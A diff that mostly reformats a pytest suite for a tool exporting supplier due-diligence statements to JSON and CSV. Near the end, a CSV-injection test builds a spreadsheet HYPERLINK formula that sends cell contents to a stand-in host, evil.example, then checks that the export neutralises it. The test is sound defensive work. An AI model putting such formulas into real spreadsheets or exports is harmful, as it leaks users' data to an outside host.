@@ -15,8 +15,8 @@ import csv
 import datetime
 import io
 import json
-import shutil
 import re
+import shutil
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -24,21 +24,6 @@ import pytest
 from jsonschema import Draft202012Validator
 
 from aapenhet.model.completeness import missing_for_publication
-from aapenhet.publishing.csv_cells import LIST_SEPARATOR
-from aapenhet.publishing.cycle_csv import MEASURE_COLUMNS, MEASURES_FILE, RISK_COLUMNS, RISKS_FILE, measures_csv, risks_csv
-from aapenhet.publishing.export import (
-    CSV_FILE,
-    JSON_FILE,
-    SCHEMA_FILE,
-    SUPPLIER_COLUMNS,
-    statement_document,
-    statement_model,
-    statement_schema,
-    suppliers_csv,
-    write_machine_readable,
-)
-from aapenhet.publishing.export_models import StatementDocument
-from aapenhet.rendering.labels import Labels, load_labels
 from aapenhet.model.loader import load_statement_data
 from aapenhet.model.models import (
     ActualImpacts,
@@ -54,6 +39,28 @@ from aapenhet.model.models import (
     Text,
     Where,
 )
+from aapenhet.publishing.csv_cells import LIST_SEPARATOR
+from aapenhet.publishing.cycle_csv import (
+    MEASURE_COLUMNS,
+    MEASURES_FILE,
+    RISK_COLUMNS,
+    RISKS_FILE,
+    measures_csv,
+    risks_csv,
+)
+from aapenhet.publishing.export import (
+    CSV_FILE,
+    JSON_FILE,
+    SCHEMA_FILE,
+    SUPPLIER_COLUMNS,
+    statement_document,
+    statement_model,
+    statement_schema,
+    suppliers_csv,
+    write_machine_readable,
+)
+from aapenhet.publishing.export_models import StatementDocument
+from aapenhet.rendering.labels import Labels, load_labels
 from aapenhet.source.yaml_source import parse_yaml
 from site_build import PROJECT, REPO, fill_data
 
@@ -190,10 +197,24 @@ def test_header_of_a_draft(data: StatementData, language: str) -> None:
     assert header == (SCHEMA_FILE, language, "nb")
     assert document["status"] == "draft"
     expected = [item.value for item in missing_for_publication(data)]
-    assert document["missing"] == expected == [
-        "reporting_period", "approved_on", "published_on", "board_signatures", "ceo_signature", "contact_email",
-        "postal_address", "actual_impacts", "source_edition", "risk_assessment", "measure_results", "measure_dates",
-    ]
+    assert (
+        document["missing"]
+        == expected
+        == [
+            "reporting_period",
+            "approved_on",
+            "published_on",
+            "board_signatures",
+            "ceo_signature",
+            "contact_email",
+            "postal_address",
+            "actual_impacts",
+            "source_edition",
+            "risk_assessment",
+            "measure_results",
+            "measure_dates",
+        ]
+    )
 
 
 def test_header_and_dates_of_a_final_statement(filled_in: StatementData) -> None:
@@ -203,11 +224,13 @@ def test_header_and_dates_of_a_final_statement(filled_in: StatementData) -> None
     assert statement["reporting_period"] == {"start": "2024-01-01", "end": "2024-12-31"}
     assert (statement["approved_on"], statement["published_on"]) == ("2025-06-27", "2025-06-30")
     assert statement["signatories"] == [
-        {"name": "Test Styreleder", "role": "board_chair"}, {"name": "Test Leder", "role": "ceo"},
+        {"name": "Test Styreleder", "role": "board_chair"},
+        {"name": "Test Leder", "role": "ceo"},
     ]
     assert statement["revisions"] == [{"date": "2025-09-01", "summary": "Changed"}]
     assert statement["contact"] == {
-        "email": "test@example.org", "postal_address": ["Test AS", "Postboks 1", "0101 Oslo"],
+        "email": "test@example.org",
+        "postal_address": ["Test AS", "Postboks 1", "0101 Oslo"],
     }
 
 
@@ -215,7 +238,9 @@ def test_header_and_dates_of_a_final_statement(filled_in: StatementData) -> None
 def test_every_supplier_is_there_with_its_facts(data: StatementData, language: str) -> None:
     document = statement_document(data, language)
     assert [(s["id"], s["name"]) for s in document["suppliers"]] == [
-        ("hp", "HP Inc."), ("zebra", "Zebra Technologies"), ("integration-wizard", "Integration Wizard (IW)"),
+        ("hp", "HP Inc."),
+        ("zebra", "Zebra Technologies"),
+        ("integration-wizard", "Integration Wizard (IW)"),
     ]
     zebra = document["suppliers"][1]
     countries = [[c["country_code"] for c in line["countries"]] for line in zebra["production"]]
@@ -240,10 +265,15 @@ def test_country_risk_equals_countries_yml(data: StatementData, raw_countries: d
         assert exported[code]["risk_level"] == raw.get("risk"), code
         assert exported[code]["rating_source"] == raw.get("source"), code
         assert exported[code]["risk_areas"] == raw.get("areas", []), code
-    assert document["rating_sources"] == [{
-        "id": "ituc-gri", "name": "ITUC Global Rights Index", "publisher": "ITUC", "year": None,
-        "url": "https://www.globalrightsindex.org/",
-    }]
+    assert document["rating_sources"] == [
+        {
+            "id": "ituc-gri",
+            "name": "ITUC Global Rights Index",
+            "publisher": "ITUC",
+            "year": None,
+            "url": "https://www.globalrightsindex.org/",
+        }
+    ]
 
 
 def test_country_names_are_in_the_documents_language(data: StatementData) -> None:
@@ -283,15 +313,22 @@ def test_csv_has_the_documented_columns_and_a_row_per_supplier_and_country(data:
     reader = csv.DictReader(io.StringIO(text, newline=""))
     assert tuple(reader.fieldnames or ()) == SUPPLIER_COLUMNS
     rows = list(reader)
-    expected = list(dict.fromkeys(
-        (supplier.id, code)
-        for supplier in data.suppliers.suppliers
-        for line in supplier.production
-        for code in line.countries
-    ))
+    expected = list(
+        dict.fromkeys(
+            (supplier.id, code)
+            for supplier in data.suppliers.suppliers
+            for line in supplier.production
+            for code in line.countries
+        )
+    )
     assert [(row["supplier_id"], row["country_code"]) for row in rows] == expected
     assert [(row["supplier_id"], row["country_code"]) for row in rows] == [
-        ("hp", "CZ"), ("hp", "CN"), ("zebra", "CN"), ("zebra", "TW"), ("zebra", "VN"), ("zebra", "GB"),
+        ("hp", "CZ"),
+        ("hp", "CN"),
+        ("zebra", "CN"),
+        ("zebra", "TW"),
+        ("zebra", "VN"),
+        ("zebra", "GB"),
         ("integration-wizard", "IN"),
     ]
     assert text.startswith(",".join(SUPPLIER_COLUMNS) + "\r\n") and text.endswith("\r\n")
@@ -387,8 +424,17 @@ def test_the_developers_guide_documents_every_column_and_top_level_field() -> No
     assert set(RISK_COLUMNS) - documented == set()
     assert set(MEASURE_COLUMNS) - documented == set()
     assert top_level - documented == set()
-    urls = ("/statement.json", "/en/statement.json", "/statement.schema.json", "/suppliers.csv", "/en/suppliers.csv",
-            "/risks_and_impacts.csv", "/en/risks_and_impacts.csv", "/measures.csv", "/en/measures.csv")
+    urls = (
+        "/statement.json",
+        "/en/statement.json",
+        "/statement.schema.json",
+        "/suppliers.csv",
+        "/en/suppliers.csv",
+        "/risks_and_impacts.csv",
+        "/en/risks_and_impacts.csv",
+        "/measures.csv",
+        "/en/measures.csv",
+    )
     for url in urls:
         assert f"`{url}`" in section, url
 
@@ -398,7 +444,8 @@ def test_the_due_diligence_cycle_is_exported_with_its_links(data: StatementData,
     dd = statement_document(data, language)["due_diligence"]
     assert [risk["id"] for risk in dd["risks"]] == [risk.id for risk in data.due_diligence.risks]
     assert [(m["id"], m["status"], m["kind"]) for m in dd["measures"]] == [
-        (m.id, m.status.value, m.kind.value) for m in data.due_diligence.measures]
+        (m.id, m.status.value, m.kind.value) for m in data.due_diligence.measures
+    ]
     assert dd["actual_impacts"] == {"status": "not_stated", "how_looked_for": None, "impacts": []}
     electronics = dd["risks"][2]
     assert (electronics["risk_level"], electronics["exposure"], electronics["severity"]) == ("elevated", "some", None)
@@ -410,10 +457,13 @@ def test_the_due_diligence_cycle_is_exported_with_its_links(data: StatementData,
 
 
 def test_measure_ids_follow_the_measures_links(filled_in: StatementData) -> None:
-    measures = [m.model_copy(update={"addresses": ["electronics-trade"]}) if m.id == "evaluate-risk" else m
-                for m in filled_in.due_diligence.measures]
-    data = filled_in.model_copy(update={"due_diligence": filled_in.due_diligence.model_copy(
-        update={"measures": measures})})
+    measures = [
+        m.model_copy(update={"addresses": ["electronics-trade"]}) if m.id == "evaluate-risk" else m
+        for m in filled_in.due_diligence.measures
+    ]
+    data = filled_in.model_copy(
+        update={"due_diligence": filled_in.due_diligence.model_copy(update={"measures": measures})}
+    )
     dd = statement_document(data, "en")["due_diligence"]
     assert dd["risks"][2]["measure_ids"][:2] == ["policies-updated", "significant-changes-reported"]
     assert "evaluate-risk" in dd["risks"][2]["measure_ids"]
@@ -421,13 +471,11 @@ def test_measure_ids_follow_the_measures_links(filled_in: StatementData) -> None
     assert dd["measures"][0]["result"] == "Test result"
 
 
-
 # --- risks_and_impacts.csv and measures.csv --------------------------------------------------------
 
 
 @pytest.mark.parametrize("language", LANGUAGES)
-def test_the_cycle_csvs_have_the_documented_columns_and_agree_with_the_json(data: StatementData,
-                                                                             language: str) -> None:
+def test_the_cycle_csvs_have_the_documented_columns_and_agree_with_the_json(data: StatementData, language: str) -> None:
     document = statement_model(data, language)
     risks = csv_rows(risks_csv(document))
     assert list(risks[0]) == list(RISK_COLUMNS)
@@ -439,22 +487,37 @@ def test_the_cycle_csvs_have_the_documented_columns_and_agree_with_the_json(data
     measures = csv_rows(measures_csv(document))
     assert list(measures[0]) == list(MEASURE_COLUMNS)
     assert [(row["measure_id"], row["status"]) for row in measures] == [
-        (m.id, m.status.value) for m in data.due_diligence.measures]
+        (m.id, m.status.value) for m in data.due_diligence.measures
+    ]
     assert {row["measure_id"]: row["result"] != "" for row in measures}["iw-visits"] is True
     assert all(row["supplier_said"] != "" for row in measures if row["kind"] == "interview")
 
 
 def test_an_impact_and_its_measure_are_rows_with_their_links(filled_in: StatementData) -> None:
-    impact = Impact(id="overtime-vn", title=Text(nb="Overtid", en="Overtime"), where=Where(countries=["VN"]),
-                    description=Text(nb="For mye overtid.", en="Too much overtime."),
-                    remediation_status=MeasureStatus.ongoing, identified_on=datetime.date(2025, 3, 1))
+    impact = Impact(
+        id="overtime-vn",
+        title=Text(nb="Overtid", en="Overtime"),
+        where=Where(countries=["VN"]),
+        description=Text(nb="For mye overtid.", en="Too much overtime."),
+        remediation_status=MeasureStatus.ongoing,
+        identified_on=datetime.date(2025, 3, 1),
+    )
     measure = filled_in.due_diligence.measures[0].model_copy(update={"addresses": ["overtime-vn"]})
-    dd = filled_in.due_diligence.model_copy(update={
-        "actual_impacts": ActualImpacts(impacts=[impact]), "measures": [measure, *filled_in.due_diligence.measures[1:]]})
+    dd = filled_in.due_diligence.model_copy(
+        update={
+            "actual_impacts": ActualImpacts(impacts=[impact]),
+            "measures": [measure, *filled_in.due_diligence.measures[1:]],
+        }
+    )
     document = statement_model(filled_in.model_copy(update={"due_diligence": dd}), "en")
     row = csv_rows(risks_csv(document))[-1]
     assert (row["id"], row["type"], row["identified_on"], row["remediation_status"], row["measure_ids"]) == (
-        "overtime-vn", "actual_impact", "2025-03-01", "ongoing", measure.id)
+        "overtime-vn",
+        "actual_impact",
+        "2025-03-01",
+        "ongoing",
+        measure.id,
+    )
     assert csv_rows(measures_csv(document))[0]["addresses"] == "overtime-vn"
 
 
@@ -463,13 +526,16 @@ def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(data: Statem
     """OWASP's rule for CSV injection: a cell starting with = + - @ tab or CR gets a leading '."""
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
     first, *rest = data.suppliers.suppliers
-    tricky = data.model_copy(update={"suppliers": Suppliers(suppliers=[first.model_copy(update={"name": formula}),
-                                                                      *rest])})
+    tricky = data.model_copy(
+        update={"suppliers": Suppliers(suppliers=[first.model_copy(update={"name": formula}), *rest])}
+    )
     assert csv_rows(suppliers_csv(tricky, "en"))[0]["supplier_name"] == "'" + formula
     # (Texts from data/ are stripped, so a leading tab or CR can only reach a cell through a name.)
     title = Text(nb=formula, en=formula).en
     measures = [m.model_copy(update={"title": Text(nb=title, en=title)}) for m in data.due_diligence.measures]
-    with_measures = data.model_copy(update={"due_diligence": data.due_diligence.model_copy(update={"measures": measures})})
+    with_measures = data.model_copy(
+        update={"due_diligence": data.due_diligence.model_copy(update={"measures": measures})}
+    )
     expected = "'" + title if title[0] in "=+-@" else title
     assert all(row["title"] == expected for row in csv_rows(measures_csv(statement_model(with_measures, "en"))))
     assert csv_rows(suppliers_csv(data, "en"))[0]["supplier_name"] == "HP Inc."  # plain text is left as it is
